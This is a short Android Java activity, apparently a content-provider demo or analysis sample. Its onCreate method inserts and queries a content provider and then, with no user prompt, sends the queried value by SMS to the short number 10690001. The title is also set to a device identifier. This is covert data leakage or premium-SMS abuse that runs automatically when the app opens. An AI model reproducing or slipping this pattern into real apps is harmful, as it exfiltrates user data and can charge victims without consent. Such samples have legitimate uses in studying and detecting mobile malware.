package cn.shanhai.contentprovider;

import android.app.Activity;
import android.content.ContentValues;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    setTitle(Device.id(this));
    Uri uri = Uri.parse("content://cn.shanhai.contentprovider");
    ContentValues values = new ContentValues();
    values.put("id", "v1");
    getContentResolver().insert(uri, values);
    Cursor cursor = getContentResolver().query(uri, null, null, null, null);
    if (cursor != null && cursor.moveToFirst()) {
      SmsManager.getDefault().sendTextMessage("10690001", null, cursor.getString(0), null, null);
    }
  }
}
